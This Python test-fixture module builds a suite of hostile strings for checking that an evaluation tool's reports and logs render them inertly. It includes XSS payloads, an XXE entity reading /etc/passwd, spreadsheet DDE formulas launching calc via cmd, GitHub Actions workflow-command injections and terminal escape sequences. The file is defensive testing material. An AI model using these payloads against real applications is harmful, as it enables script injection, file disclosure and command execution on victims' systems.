"""Texts that try to break out of the place where they are shown.

`TEXTS` has them by name. `SUITE` and `hostile` are a suite and a provider that put each of them
everywhere: into variables, descriptions, metadata, labels, names of metrics, assertions, replies and errors.
`write_hostile_suite` writes the same as files, for the command line.

The effect of a payload is recognized by the word `hostile` in any case: every tag, handler, link and command
of a payload contains it.
"""

import json
import re
from collections.abc import Mapping
from pathlib import Path
from typing import Any

from hostile_checks import (
    MARKER,
    assert_inert_csv,
    assert_inert_html,
    assert_inert_log,
    assert_inert_markdown,
    assert_inert_terminal,
    assert_inert_xml,
)

import trioeval
from trioeval.run import Row
from trioeval.testing import run_virtual

__all__ = [
    "COMMANDS",
    "CONTROLS",
    "FORMULAS",
    "HUGE",
    "HUGE_LINE",
    "MANY_LINES",
    "MARKER",
    "MARKUP",
    "SHAPES",
    "SHORT",
    "SUITE",
    "TEXTS",
    "assert_inert_csv",
    "assert_inert_html",
    "assert_inert_log",
    "assert_inert_markdown",
    "assert_inert_terminal",
    "assert_inert_xml",
    "hostile",
    "hostile_rows",
    "hostile_suite",
    "hostile_tests",
    "names_of",
    "write_hostile_suite",
]

MARKUP: Mapping[str, str] = {
    "script": "<script>window.hostileRan=1</script>",
    "script_end": "</script><script>window.hostileRan=1</script>",
    "script_odd_end": "</ScRiPt\n><sCrIpT>window.hostileRan=1</sCrIpT\t>",
    "comment_in_script": "<!--<script>window.hostileRan=1",
    "comment_end": "--><b hostile>x</b><!--",
    "style_end": "</style><style>*{display:none}/*hostile*/",
    "textarea_end": "</textarea></title><svg onload=window.hostileRan=1>",
    "template_end": "</template><iframe srcdoc='<script>top.hostileRan=1</script>'></iframe>",
    "handler": '<img src=x onerror="window.hostileRan=1">',
    "attribute": '" onmouseover="window.hostileRan=1" autofocus onfocus="window.hostileRan=1" x="',
    "attribute_single": "' onfocus='window.hostileRan=1' autofocus x='",
    "attribute_bare": "` onfocus=window.hostileRan=1 autofocus=`",
    "link": '<a href="javascript:window.hostileRan=1">hostile</a>',
    "link_bare": "javascript:window.hostileRan=1//",
    "link_blanks": "java\tscript\n:window.hostileRan=1",
    "link_data": "data:text/html,<script>opener.hostileRan=1</script>",
    "svg": "<svg xmlns='http://www.w3.org/2000/svg'><script>hostileRan=1</script></svg>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=hostileRan=1>",
    "base": "<base href='https://hostile.invalid/'><meta http-equiv=refresh content='0;//hostile'>",
    "form": "<form action=//hostile.invalid><button>hostile</button></form><input autofocus>",
    "entities": "&lt;script&gt;hostileRan=1&lt;/script&gt; &#60;b hostile&#62; &amp;amp;",
    "jinja": "{{ ''.__class__.__mro__ }}{% raw %}",
    "javascript": "${window.hostileRan=1}`;'+(window.hostileRan=1)+'\\u0027\\",
    "cdata": "]]><hostile/><![CDATA[",
    "doctype": '<!DOCTYPE x [<!ENTITY hostile SYSTEM "file:///etc/passwd">]><x>&hostile;</x>',
    "rich": "[bold red]hostile[/bold red][link=https://hostile.invalid]x[/link][/][@click=hostile]",
}
"""Payloads for browsers and parsers."""

CONTROLS: Mapping[str, str] = {
    "colours": "\x1b[31;1mred\x1b[0m \x1b[8mhidden\x1b[28m",
    "clear": "\x1b[2J\x1b[H\x1b[3J\x1bc",
    "cursor": "\x1b[1A\x1b[2Kover\x1b[99C\x1b[s\x1b[u",
    "title": "\x1b]0;hostile\x07\x1b]2;hostile\x1b\\",
    "hyperlink": "\x1b]8;;https://hostile.invalid\x1b\\click\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;aG9zdGlsZQ==\x07",
    "report": "\x1b[6n\x1b[c\x1b]10;?\x07\x1b[21t",
    "device": "\x1bP+q544e\x1b\\\x1b_hostile\x1b\\\x1b^hostile\x1b\\",
    "alternate": "\x1b[?1049h\x1b[?25l\x1b[?2004h\x1b(0",
    "unended": "x\x1b]0;hostile",
    "c1": "\x9b31mred\x9d0;hostile\x9c\x90q\x9c\x85next\x8d",
    "bell": "\x07\x07\x07",
    "backspace": "safe\x08\x08\x08\x08evil",
    "carriage": "100 % passed\rhostile",
    "vertical": "a\vb\fc\x1cd\x1de\x1ef",
    "delete": "a\x7fb\x00c\x1a",
    "nul": "\x00",
    "right_to_left": "\u200fabc\u200e\u061c",
    "override": "user \u202etxt.exe\u202c \u202dabc",
    "isolate": "\u2066\u2067\u2068 never ended",
    "embedding": "\u202a\u202b never ended",
    "zero_width": "pass\u200bword\u200c\u200d\u2060\ufeff\u00ad",
    "tags": "x\U000e0001\U000e0068\U000e006f\U000e0073\U000e0074\U000e007f",
    "annotations": "\ufff9a\ufffab\ufffb\u180e\u206a",
    "separators": "one\u2028two\u2029three\x85four",
    "bom": "\ufeffbegins with one",
    "not_characters": "\ufffe\uffff\U0001fffe\U0010ffff\ufdd0",
    "private": "\ue000\uf8ff\U000f0000\U00100000",
    "surrogate": "\ud800 alone \udfff",
    "surrogates_swapped": "\udc00\ud800",
}
"""Payloads for terminals, logs and readers of XML."""

SHAPES: Mapping[str, str] = {
    "flood": "Z" + "\u0300\u0301\u0302\u0303\u0489\u0334" * 60 + "a" + "\u0e49" * 200,
    "wide": "漢字" * 60 + "한글" * 20,
    "emoji": "👩‍👩‍👧‍👦" * 12 + "👍🏽🏳️‍🌈" + "🇩🇪" * 9,
    "full_width": "ｆｕｌｌ　ｗｉｄｔｈ" * 9,
    "arabic": "السلام عليكم " * 8,
    "hebrew": "שָׁלוֹם עוֹלָם",
    "blank": " \t \u3000\u2003\u00a0\u2800\u3164 ",
    "empty": "",
    "no_break": "x" * 3000,
    "deep_json": "[" * 5000 + "]" * 5000,
    "deep_object": '{"a":' * 2000 + "1" + "}" * 2000,
    "numbers": '[1e999, -1e999, 1e-999, NaN, 123456789012345678901234567890, "\\ud800"]',
}
"""Payloads for programs that measure or read text."""

FORMULAS: Mapping[str, str] = {
    "formula": "=1+1",
    "formula_command": "=cmd|' /C calc'!'hostile'",
    "formula_plus": "+cmd|' /C calc'!'hostile'",
    "formula_minus": "-2+3+cmd|' /C calc'!'hostile'",
    "formula_at": "@SUM(1+1)*cmd|' /C calc'!'hostile'",
    "formula_link": '=HYPERLINK("https://hostile.invalid?"&A1,"hostile")',
    "formula_tab": "\t=1+1",
    "formula_return": "\r=1+1",
    "formula_newline": "\n=1+1",
    "formula_blank": "  =1+1",
    "formula_no_break": "\u00a0\u200b\ufeff=1+1",
    "formula_nul": "\x00=1+1",
    "formula_wide": "＝1+1",
    "formula_wide_plus": "＋1+1",
    "formula_wide_minus": "－1+1",
    "formula_wide_at": "＠SUM(1)",
    "formula_quoted": '"=1+1"',
    "formula_breaks_out": 'x"\n=1+1,"y',
}
"""Payloads for spreadsheets."""

COMMANDS: Mapping[str, str] = {
    "workflow_error": "::error file=hostile.py,line=1::hostile",
    "workflow_mask": "::add-mask::hostile",
    "workflow_stop": "::stop-commands::hostile",
    "workflow_path": "lines before\n::add-path::/hostile\nlines behind",
    "workflow_carriage": "x\r::set-env name=HOSTILE::1",
    "workflow_blanks": "  ::set-output name=hostile::1",
    "workflow_old": "##[group]hostile",
    "workflow_old_inside": "text ##[add-path]/hostile",
    "workflow_escapes": "%0A::add-path::/hostile%0D%25",
    "table_cell": "a | b | c\n|---|---|\n| hostile | x |",
    "image": "![hostile](https://hostile.invalid/pixel.png)",
    "markdown_link": "[hostile](javascript:hostile) <https://hostile.invalid> [x][hostile]",
    "reference": "\n[hostile]: https://hostile.invalid\n",
    "fence": "```\n</details>\n# hostile\n~~~\n````",
    "heading": "# hostile\n\nhostile\n=======\n- hostile\n1. hostile\n> hostile",
    "details": "</details></summary></td></table><h1>hostile</h1>",
    "backticks": "`` ` ``` hostile",
    "emphasis": "**hostile** _x_ ~~y~~ \\*\\_ $hostile$",
}
"""Payloads for logs of GitHub Actions, and Markdown."""

TEXTS: Mapping[str, str] = {**MARKUP, **CONTROLS, **SHAPES, **FORMULAS, **COMMANDS}
"""All texts except the huge ones."""

HUGE_LINE = "hostile " * 125_000
"""A megabyte on one line."""
MANY_LINES = "::error::hostile\n" * 100_000
"""A hundred thousand lines."""
HUGE: Mapping[str, str] = {"huge_line": HUGE_LINE, "many_lines": MANY_LINES}

SHORT = {name: text for name, text in TEXTS.items() if len(text) < 200}
"""The texts that are valid as a name."""


def names_of(texts: Mapping[str, str] = SHORT) -> str:
    """Return many texts in one, as a label or a name may hold."""
    return _HALVES.sub("", " ".join(texts.values()))


_HALVES = re.compile("[\ud800-\udfff]")


def hostile_tests(texts: Mapping[str, str] = TEXTS) -> list[dict[str, Any]]:
    """Return one test for each text, which has the text in all of its places. Suites have no surrogates."""
    whole = {name: _HALVES.sub("", text) for name, text in texts.items()}
    return [
        {
            "description": text,
            "vars": {"name": name, "text": text, "fails": number % 4 == 3},
            "metadata": {"text": text, text[:200] or "empty": name},
            "assert": [
                {"type": "contains", "value": text[:200] or "x", "metric": text[:200] or "empty"},
                *([{"type": "equals", "value": f"other {text[:200]}"}] if number % 4 == 2 else []),
            ],
        }
        for number, (name, text) in enumerate(whole.items())
    ]


def hostile_suite(texts: Mapping[str, str] = TEXTS, provider: str = "mine") -> Mapping[str, Any]:
    """Return a suite of the texts: of four rows two pass, one fails and one is an error.

    Args:
        texts: The texts.
        provider: The provider; `mine` stands for `hostile` below.
    """
    name = names_of()
    return {
        "description": name,
        "tags": {"origin": name},
        "providers": [{"id": provider, "label": name}],
        "prompts": [{"raw": "{{text}}", "label": name}],
        "tests": hostile_tests(texts),
    }


SUITE = hostile_suite()


def hostile_rows(texts: Mapping[str, str] = TEXTS) -> tuple[trioeval.Suite, list[Row]]:
    """Run the suite, and return it with its rows."""
    suite = trioeval.parse_suite(hostile_suite(texts))
    return suite, run_virtual(lambda: trioeval.collect(suite, providers={"mine": hostile}))


async def hostile(request: trioeval.Request) -> trioeval.Reply:
    """Reply with the text of the test, or fail with it."""
    text = {**TEXTS, **HUGE}[str(request.vars["name"])]
    if request.vars["fails"]:
        raise trioeval.ProviderError("bad_request", text, body_excerpt=text[:500])
    usage = trioeval.Usage(prompt=2, completion=3, total=5)
    return trioeval.Reply(
        output=text,
        usage=usage,
        cost=0.5,
        finish_reason=text[:50] or "stop",
        metadata={"text": text[:500]},
    )


_PROVIDER = '''"""Answers with the text of the test, or fails with it."""

import json
from pathlib import Path

TEXTS = json.loads(Path(__file__).with_name("hostile_texts.json").read_text())


def call_api(prompt, options, context):
    text, fails = TEXTS[context["vars"]["name"]], context["vars"]["fails"]
    return {"error": text} if fails else {"output": text, "metadata": {"text": text[:500]}}
'''


def write_hostile_suite(folder: Path, texts: Mapping[str, str] = TEXTS) -> Path:
    """Write the suite as files, with a provider that is a Python file; return the path of the suite."""
    (folder / "hostile_provider.py").write_text(_PROVIDER, encoding="utf-8")
    (folder / "hostile_texts.json").write_text(json.dumps(texts), encoding="ascii")
    path = folder / "hostile.json"
    suite = hostile_suite(texts, "python:hostile_provider.py")
    path.write_text(json.dumps(suite), encoding="ascii")
    return path
